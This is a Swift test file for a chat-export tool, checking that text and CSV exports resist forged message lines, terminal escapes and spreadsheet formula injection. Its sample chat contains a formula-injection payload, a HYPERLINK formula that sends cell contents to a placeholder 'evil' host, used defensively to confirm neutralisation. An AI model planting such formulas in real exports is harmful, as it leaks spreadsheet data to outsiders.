import Foundation
import Testing
import WhisperJSONText
import WhisperTestThreads

@Suite("Exporting messages as text and as a table (CLI-7, LOOK-4)", .ownThreads)
struct TranscriptTests {
    /// A chat with what tries to look like something else.
    private static let chat = """
        13/05/2019, 09:13 - Ana Reis: Hello, "Ben"
        13/05/2019, 09:14 - Ben: =HYPERLINK("http://evil/?"&A1,"x")
        verified     09:15  Ana Reis: not hers
        ── Tuesday, 14 May 2019 ──
        13/05/2019, 09:15 - Ana Reis: IMG-20190513-WA0002.jpg (file attached)
        14/05/2019, 10:00 - Ana Reis: \u{FEFF} @SUM(1+1)
        14/05/2019, 10:01 - +49 170 1234567: 'quoted
        14/05/2019, 10:02 - Ana Reis: a\u{1B}[2Kb, c

        """

    private func vault() throws -> TestVault {
        let vault = try TestVault()
        let path = try ExportFiles.write(Self.chat, title: "Ana Reis", in: vault.scratch)
        try vault.expect(["import", "whatsapp", path, "--timezone", "UTC", "--me", "Ben"])
        let other = try ExportFiles.write("15/05/2019, 09:13 - Carla: Ciao\n", title: "Carla", in: vault.scratch)
        try vault.expect(["import", "whatsapp", other, "--timezone", "UTC", "--me", "Ben"])
        return vault
    }

    @Test("A text has titles, days, names and attachments, and its first column is the program's (LOOK-4)")
    func text() throws {
        let vault = try vault()
        let run = try vault(["export", "txt", "--conversation", "Ana Reis"], environment: ["TZ": "UTC"])
        #expect(run.status == 0, "\(run.errors)")
        let lines = run.output.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
        #expect(lines.first == "══ Ana Reis ══")
        let days = lines.filter { $0.hasPrefix("──") }
        #expect(days.count == 2, "\(days)")
        // The word, the time, the name.
        let heads = lines.filter { $0.contains(#/^\S.* \d\d:\d\d  /#) }
        #expect(heads.count == 6, "\(run.output)")
        #expect(heads.allSatisfy { $0.hasPrefix("in clear") || $0.hasPrefix("plain") || !$0.hasPrefix("verified") })
        // What claims to be another message or a day is indented beyond the column.
        for forged in ["not hers", "14 May 2019 ──"] {
            let line = try #require(lines.first { $0.contains(forged) && !$0.hasPrefix("── ") })
            #expect(line.hasPrefix("          "), "\(line)")
        }
        #expect(run.output.contains("IMG-20190513-WA0002.jpg"))
        #expect(!run.output.contains("\u{1B}"))
        #expect(!run.output.contains("Ciao"))
    }

    @Test("A table has a header and one row a message, quoted by RFC 4180, and no formula in any cell")
    func table() throws {
        let vault = try vault()
        let file = vault.scratch("messages.csv")
        let run = try vault(["export", "csv", "-o", file, "--json"], environment: ["TZ": "Europe/Berlin"])
        #expect(run.status == 0, "\(run.errors)")
        let summary = try #require(try run.objects().last)
        #expect(summary.integer("messages") == 7 && summary.integer("conversations") == 2)
        #expect(try vault.scratch.permissions(of: "messages.csv") == 0o600)
        let rows = try rows(of: try String(contentsOfFile: file, encoding: .utf8))
        #expect(rows.count == 8)
        #expect(rows.allSatisfy { $0.count == rows[0].count })
        let column = Dictionary(rows[0].enumerated().map { ($1, $0) }) { first, _ in first }
        let texts = rows.dropFirst().map { $0[column["text"] ?? 0] }
        #expect(texts.contains("Hello, \"Ben\""))
        #expect(texts.contains { $0.hasPrefix("'=HYPERLINK(\"http://evil/?\"&A1,\"x\")\nverified") })
        #expect(texts.contains { $0.hasPrefix("'") && $0.hasSuffix("@SUM(1+1)") })
        #expect(texts.contains("''quoted"))
        #expect(rows.dropFirst().contains { $0[column["sender"] ?? 0] == "'+49 170 1234567" })
        let first = try #require(rows.dropFirst().first { $0[column["text"] ?? 0] == "Hello, \"Ben\"" })
        #expect(first[column["time"] ?? 0] == "2019-05-13T09:13:00Z")
        #expect(first[column["local_time"] ?? 0] == "2019-05-13 11:13", "the export has no seconds")
        #expect(first[column["attribution"] ?? 0] == "plain")
        for cell in rows.joined() {
            let start = cell.unicodeScalars.first { !$0.properties.isWhitespace && $0 != "\u{FEFF}" }
            #expect(start.map { !"=+-@".unicodeScalars.contains($0) } ?? true, "\(cell)")
        }
    }

    @Test("Dates choose messages, and a period that ends before it begins is refused")
    func period() throws {
        let vault = try vault()
        let utc = ["TZ": "UTC"]
        let since = try vault(["export", "csv", "--since", "2019-05-14"], environment: utc)
        #expect(try rows(of: since.output).count == 5)
        let day = try vault(["export", "csv", "--since", "2019-05-14", "--until", "2019-05-14"], environment: utc)
        #expect(try rows(of: day.output).count == 4)
        let refused = try vault(["export", "csv", "--since", "2020", "--until", "2019"])
        #expect(refused.status == 64 && refused.output.isEmpty)
    }

    @Test("A file is replaced only with --force, and a failure leaves nothing (CLI-7)", arguments: ["txt", "csv"])
    func files(form: String) throws {
        let vault = try vault()
        let file = try vault.scratch.write("mine", to: "messages")
        let refused = try vault(["export", form, "-o", file])
        #expect(refused.status == 1 && refused.errors.contains("--force"), "\(refused.errors)")
        #expect(try String(contentsOfFile: file, encoding: .utf8) == "mine")
        #expect(try vault(["export", form, "-o", file, "--force"]).status == 0)
        #expect(try String(contentsOfFile: file, encoding: .utf8).contains("Ciao"))
        let full = try vault(["export", form, "-o", "/dev/full"])
        #expect(full.status == 1, "\(full.errors)")
        let missing = try vault(["export", form, "-o", vault.scratch("missing/file")])
        #expect(missing.status == 1 && missing.output.isEmpty)
    }

    @Test(
        "A file is written where the file system has no links, and still replaces nothing (CLI-7)",
        .enabled(if: SecretCanaryTests.strace != nil, "strace is not installed"))
    func withoutLinks() throws {
        let vault = try vault()
        let strace = try #require(SecretCanaryTests.strace)
        let file = vault.scratch("messages.txt")
        func export() throws -> CommandRun {
            try CommandRun.program(
                strace,
                [
                    "-f", "-qq", "-o", "/dev/null", "-e", "trace=?link,linkat", "-e", "inject=?link,linkat:error=EPERM",
                    WhisperBinary.path, "export", "txt", "-o", file, "--vault", vault.path, "--passphrase-file",
                    vault.passphraseFile,
                ], in: vault.scratch)
        }
        #expect(try export().status == 0)
        #expect(try String(contentsOfFile: file, encoding: .utf8).contains("Ciao"))
        #expect(try export().errors.contains("--force"))
        let names = try FileManager.default.contentsOfDirectory(atPath: vault.scratch(""))
        #expect(!names.contains { $0.hasSuffix(".partial") }, "\(names)")
    }

    @Test("An answer repeats nothing of a message that a blocked contact sealed (CON-5)")
    func blockedAnswer() throws {
        let people = try Correspondents()
        try people.ben.expect(["decrypt"], input: try people.envelope("the canary sings"))
        let lines = try people.ben.expect(["export", "json", "--full"]).output.split(separator: "\n").map { String($0) }
        let sealed = try #require(lines.first { $0.contains("the canary sings") })
        // The same message once more, unsealed, as an answer to the first.
        var answer = try #require(try JSONSerialization.jsonObject(with: Data(sealed.utf8)) as? [String: Any])
        var message = try #require(answer["message"] as? [String: Any])
        var metadata = try #require(message["metadata"] as? [String: Any])
        metadata["reply_to"] = message["external_id"]
        metadata["platform_specific"] = [String: Any]()
        message["metadata"] = metadata
        message["external_id"] = "answer"
        message["id"] = UUID().uuidString.lowercased()
        message["content"] = ["type": "text", "text": "who says so?", "attachments": [Any]()] as [String: Any]
        answer["message"] = message
        answer["seal"] = NSNull()
        answer["content_key"] = NSNull()
        answer["position"] = try #require(answer["position"] as? Int) + 1
        let added = String(decoding: try JSONSerialization.data(withJSONObject: answer), as: UTF8.self)
        let vault = try TestVault()
        let input = (lines + [added]).joined(separator: "\n") + "\n"
        try vault.expect(["import", "json", "-", "--restore"], input: input)
        // The contact is not blocked yet.
        #expect(try vault.expect(["export", "txt"]).output.components(separatedBy: "canary").count == 3)
        try vault.expect(["contact", "block", "Ana"])
        for form in ["txt", "csv"] {
            let run = try vault.expect(["export", form])
            #expect(run.output.contains("who says so?") && !run.output.contains("canary"), "\(run.output)")
        }
        #expect(try vault.expect(["export", "txt", "--show-blocked"]).output.contains("canary"))
    }

    /// The rows of a table, read by RFC 4180.
    private func rows(of text: String) throws -> [[String]] {
        var rows: [[String]] = [[""]]
        var isQuoted = false
        var rest = Array(text.unicodeScalars)[...]
        while let scalar = rest.popFirst() {
            let last = rows.count - 1
            let cell = rows[last].count - 1
            if isQuoted {
                if scalar != "\"" {
                    rows[last][cell].unicodeScalars.append(scalar)
                } else if rest.first == "\"" {
                    rows[last][cell].unicodeScalars.append(rest.removeFirst())
                } else {
                    isQuoted = false
                }
            } else if scalar == "\"" {
                #expect(rows[last][cell].isEmpty, "A quotation mark within a cell without quotes")
                isQuoted = true
            } else if scalar == "," {
                rows[last].append("")
            } else if scalar == "\r" {
                #expect(rest.popFirst() == "\n")
                rows.append([""])
            } else {
                rows[last][cell].unicodeScalars.append(scalar)
            }
        }
        #expect(rows.removeLast() == [""])
        return rows
    }
}
